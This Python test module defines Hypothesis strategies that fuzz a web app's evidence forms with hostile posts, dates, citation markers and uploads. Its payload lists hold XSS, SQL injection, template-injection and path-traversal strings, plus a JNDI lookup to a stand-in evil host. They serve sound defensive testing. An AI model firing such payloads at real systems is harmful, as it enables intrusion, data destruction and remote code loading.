"""Hypothesis strategies for hostile form input.

A form post is drawn as a dict of field values where most fields are valid and a few (drawn
as `spoiled`) are replaced by something hostile: missing, sent twice, junk text, injection
payloads, malformed citation markers, impossible dates, out-of-range numbers, wrong choices or
another force's ids. A post with nothing spoiled must be accepted, so the valid strategies
respect the forms' cross-field rules.
"""

import datetime
from dataclasses import dataclass, field

from hypothesis import strategies as st

from evidence.citations import REFERENCE
from sprcompliance.dateinput import MONTH_NAMES, PARTS
from tests.evidence import samples


class _Missing:
    def __repr__(self):
        return "MISSING"


MISSING = _Missing()

PAYLOADS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<a href=\"javascript:alert('x')\">click</a>",
    "[click](javascript:alert(1))",
    "![x](file:///etc/passwd)",
    "<iframe src=//evil.example></iframe>",
    "'; DROP TABLE evidence_evidenceitem; --",
    "' OR '1'='1",
    "1; SELECT pg_sleep(10)",
    "%' AND 1=1 --",
    "{{ request.user.password }}",
    "{% debug %}",
    "%s%s%s%n",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "**bold** _it_ `code` > quote\n\n- list\n1. one",
    "### Heading\n\n#### Another",
    "<!-- comment",
    "]]><![CDATA[",
    "\u202eevil\u202c",
    "\ufeffBOM",
    "Zero\u200bwidth",
    "e\u0301\u0301\u0301",
    "𝕊𝕡𝕣 🙂 中文 العربية",
    "NUL\x00inside",
    "line\r\nbreak\rcarriage",
)
# Citation markers, well-formed and not: unknown references, another force's reference,
# unclosed, nested, over-long locators and notes.
MARKERS = (
    "[@EV-999]",
    "[@EV-999, p3]",
    "[@OTH-001]",
    "[@ev-001]",
    "[@",
    "[^",
    "[@]",
    "[^]",
    "[@EV-001",
    "[@EV-001,]",
    "[@EV-001 p3]",
    "[@EV-001, [@EV-001]]",
    "[^[@EV-001, p3]]",
    "[[@EV-001]]",
    "[@-EV]",
    "[@" + "A" * 21 + "]",
    "[@EV-001, " + "9" * 61 + "]",
    "[^" + "n" * 1001 + "]",
    "]]]][[[[",
    "[@EV-001]" * 40,
)
# Markers that name the force's own evidence properly: a narrative may use them freely.
GOOD_MARKERS = ("[@EV-001]", "[@EV-001, p8-10]", "[@EV-002, section 4]", "[^A note.]")
LENGTHS = (19, 20, 21, 40, 41, 60, 61, 199, 200, 201, 255, 256, 300, 301, 2001, 20_000, 20_001)

no_nul = st.characters(codec="utf-8", exclude_characters="\x00")
control_text = st.text(
    st.characters(categories=["Cc", "Cf", "Zl", "Zp", "Zs"]), min_size=1, max_size=12
)
long_text = st.builds(
    lambda n, piece: (piece * n)[:n],
    st.sampled_from(LENGTHS),
    st.sampled_from(["x", "é", "🙂", " ", "\n", "<b>", "[@EV-001]"]),
)
pieces = st.one_of(
    st.text(max_size=30), st.sampled_from(PAYLOADS), st.sampled_from(MARKERS), control_text
)
junk = st.one_of(pieces, long_text, st.lists(pieces, min_size=2, max_size=5).map("".join))
numbers_as_text = st.one_of(
    st.integers(min_value=-(10**30), max_value=10**30).map(str),
    st.sampled_from(["-0", "1e3", "NaN", "inf", "-inf", "0x10", "1_000", "１２", "٣", "1,000"]),
    st.decimals(allow_nan=True, allow_infinity=True).map(str),
)


def valid_text(max_size: int, *, required: bool = True, strip: bool = True) -> st.SearchStrategy:
    """Text the field must accept: injection payloads included (they are just text)."""

    def fits(text: str) -> bool:
        kept = text.strip() if strip else text
        return "\x00" not in text and len(kept) <= max_size and (bool(kept) or not required)

    return st.one_of(
        st.text(no_nul, min_size=int(required), max_size=min(max_size, 40)),
        st.sampled_from(PAYLOADS),
        st.just("y" * max_size),
        st.builds(lambda text: f"  {text}\t ", st.text(no_nul, min_size=1, max_size=20)),
    ).filter(fits)


def narrative_text(max_size: int = 20_000) -> st.SearchStrategy:
    """Markdown that cites only the force's own evidence: it must be saved."""
    prose = st.text(st.characters(codec="utf-8", exclude_characters="\x00[]"), max_size=40)
    part = st.one_of(prose, st.sampled_from(GOOD_MARKERS), st.just("\n\n"))
    return st.lists(part, max_size=8).map("".join).filter(lambda t: len(t) <= max_size)


def hostile_narrative() -> st.SearchStrategy:
    part = st.one_of(pieces, st.sampled_from(GOOD_MARKERS), st.just("\n\n"))
    return st.one_of(st.lists(part, min_size=1, max_size=8).map("".join), long_text)


def references(prefix: str, taken: set[str]) -> st.SearchStrategy:
    """Fresh references the register accepts, sometimes with spaces around them."""
    fresh = st.one_of(
        st.from_regex(REFERENCE, fullmatch=True),
        st.integers(min_value=100, max_value=99_999).map(lambda n: f"{prefix}{n:03d}"),
    ).filter(lambda ref: ref.upper() not in taken)
    return st.builds(lambda ref, pad: pad + ref + pad, fresh, st.sampled_from(["", " ", "\t"]))


def hostile_references(taken: set[str]) -> st.SearchStrategy:
    return st.one_of(
        st.sampled_from(sorted(taken)),
        st.sampled_from(sorted(taken)).map(str.lower),
        st.sampled_from(["", " ", "-EV", "EV 1", "EV/../1", "x" * 21, "EV-1\x00", "ÉV-1"]),
        junk,
    )


# Dates: the GOV.UK pattern's three boxes.


@dataclass(frozen=True)
class DateParts:
    day: object
    month: object
    year: object


MONTH_SPELLINGS = {n: [k for k, v in MONTH_NAMES.items() if v == n] for n in range(1, 13)}


def _month_spellings(month: int) -> list[str]:
    words = MONTH_SPELLINGS[month]
    return [str(month), f"{month:02d}", *words, words[0].upper() + "."]


def date_parts(date: datetime.date) -> st.SearchStrategy:
    return st.builds(
        DateParts,
        day=st.sampled_from([str(date.day), f"{date.day:02d}", f" {date.day} "]),
        month=st.sampled_from(_month_spellings(date.month)),
        year=st.just(str(date.year)),
    )


def dates_between(low: datetime.date, high: datetime.date) -> st.SearchStrategy:
    return st.dates(min_value=low, max_value=high)


EMPTY_DATE = DateParts("", "", "")
IMPOSSIBLE_DATES = [
    DateParts(*parts)
    for parts in (
        ("31", "2", "2019"),
        ("29", "2", "2019"),
        ("30", "feb", "2020"),
        ("0", "1", "2019"),
        ("1", "0", "2019"),
        ("1", "13", "2019"),
        ("1", "1", "0"),
        ("1", "1", "0000"),
        ("1", "1", "99999"),
        ("-1", "1", "2019"),
        ("1", "-1", "2019"),
        ("1", "1", "-201"),
        ("x", "y", "z"),
        ("", "", "2019"),
        ("1", "", ""),
        ("31", "12", "9999"),
        ("1", "1", "0001"),
        ("1", "Sept.", "2019"),
        ("１", "１", "２０１９"),
        ("1\x00", "1", "2019"),
    )
]
date_part = st.one_of(
    st.sampled_from(["31", "32", "0", "00", "-1", "99999", "1e3", "feb", "", " ", "2019.0"]),
    junk,
    st.just(MISSING),
    st.lists(st.sampled_from(["1", "12", "2019"]), min_size=2, max_size=3),
)
hostile_dates = st.one_of(
    st.sampled_from(IMPOSSIBLE_DATES), st.builds(DateParts, date_part, date_part, date_part)
)


def expected_date(parts: DateParts) -> datetime.date | None:
    """The date a successful post must have saved: an independent reading of the boxes."""
    texts = [_last(value).strip() for value in (parts.day, parts.month, parts.year)]
    if not any(texts):
        return None
    day, month, year = texts
    month_number = MONTH_NAMES.get(month.lower().rstrip("."), None) or int(month)
    return datetime.date(int(year), month_number, int(day))


# Uploads.


@dataclass(frozen=True)
class Upload:
    name: str
    content: bytes


HOSTILE_NAMES = (
    "../../x.pdf",
    "..\\..\\x.pdf",
    "/etc/passwd",
    "C:\\Windows\\x.pdf",
    "x\x00.pdf",
    "a" * 300 + ".pdf",
    "b" * 300,
    "c" * 250 + "." + "d" * 30,
    ".pdf",
    "..",
    ".",
    "",
    "   ",
    "CON.pdf",
    "report.pdf.exe",
    "re\u0301port.pdf",
    "\u202etxt.pdf",
    'qu"ote.pdf',
    "semi;colon.txt",
    "new\nline.txt",
    "%2e%2e%2fx.pdf",
    "x.PDF",
    "notes.txt",
    "data.csv",
    "🙂.png",
    "minutes.docx",
)
CONTENTS = (
    samples.PDF,
    samples.HTML,
    b"",
    b"plain text\n",
    b"a,b\n1,2\n",
    b"\xef\xbb\xbf<svg onload=alert(1)>",
    b"\x89PNG\r\n\x1a\n" + b"\x00" * 20,
    b"\xff\xd8\xff\xe0" + b"\x00" * 20,
    b"PK\x03\x04",
    samples.docx(),
    samples.docm(),
    samples.odt(),
    samples.plain_zip(),
)
uploads = st.builds(
    Upload,
    name=st.one_of(
        st.sampled_from(HOSTILE_NAMES),
        st.text(max_size=40),
        st.builds(lambda s, e: s + e, st.text(max_size=20), st.sampled_from([".pdf", ".txt"])),
    ),
    content=st.one_of(st.sampled_from(CONTENTS), st.binary(max_size=600)),
)


# Whole posts.


@dataclass
class Post:
    """What a browser (or an attacker) sends: values may be lists (sent more than once),
    DateParts (three boxes) or MISSING (not sent at all)."""

    fields: dict[str, object]
    spoiled: frozenset[str] = frozenset()
    uploads: list[Upload] = field(default_factory=list)

    def pairs(self) -> list[tuple[str, str]]:
        sent = []
        for name, value in self.fields.items():
            values = value if isinstance(value, list) else [value]
            if values and isinstance(values[0], DateParts):
                for date in values:
                    parts = zip(PARTS, (date.day, date.month, date.year), strict=True)
                    for part, text in parts:
                        sent += _pairs(f"{name}_{part}", text)
            else:
                sent += _pairs(name, value)
        return sent

    def date(self, name: str) -> datetime.date | None:
        """The date a successful post must have saved for the field `name`."""
        value = self.fields.get(name, MISSING)
        dates = value if isinstance(value, list) else [] if value is MISSING else [value]
        sent = {"day": [], "month": [], "year": []}
        for date in dates:
            for part in sent:
                text = getattr(date, part)
                sent[part] += text if isinstance(text, list) else [text]
        last = {part: _last([t for t in sent[part] if t is not MISSING]) for part in sent}
        return expected_date(DateParts(**last))

    def get(self, name: str) -> str:
        """The value a view reads (the last one sent), "" when not sent."""
        return _last(self.fields.get(name, MISSING))

    @property
    def valid(self) -> bool:
        return not self.spoiled


def _pairs(name: str, value) -> list[tuple[str, str]]:
    if value is MISSING:
        return []
    if isinstance(value, list):
        return [(name, v) for v in value if v is not MISSING]
    return [(name, value)]


def _last(value) -> str:
    if isinstance(value, list):
        value = value[-1] if value else MISSING
    return "" if value is MISSING else value


EXTRA_FIELDS = ("id", "pk", "force", "force_id", "state", "created_at", "period", "is_staff")


@st.composite
def posts(draw, valid: dict, hostile: dict, *, max_spoiled: int = 3) -> Post:
    """A post built from `valid` strategies with up to `max_spoiled` fields made hostile (a
    field missing from `hostile` gets generic junk), plus unknown fields now and then."""
    names = sorted(valid)
    spoiled = draw(st.sets(st.sampled_from(names), max_size=max_spoiled))
    fields = {}
    for name in names:
        if name in spoiled:
            fields[name] = draw(
                st.one_of(
                    st.just(MISSING),
                    hostile.get(name, junk),
                    st.lists(valid[name], min_size=2, max_size=3),
                )
            )
        else:
            fields[name] = draw(valid[name])
    fields |= draw(st.dictionaries(st.sampled_from(EXTRA_FIELDS), junk, max_size=2))
    return Post(fields=fields, spoiled=frozenset(spoiled))


def choice_of(values) -> st.SearchStrategy:
    return st.sampled_from([str(v) for v in values])


def hostile_choice(*others) -> st.SearchStrategy:
    """Wrong choices: ids of other forces' rows, words, numbers out of range."""
    return st.one_of(
        st.sampled_from([str(o) for o in others] + ["", "0", "-1", "None", "null", "[]"]),
        numbers_as_text,
        junk,
    )
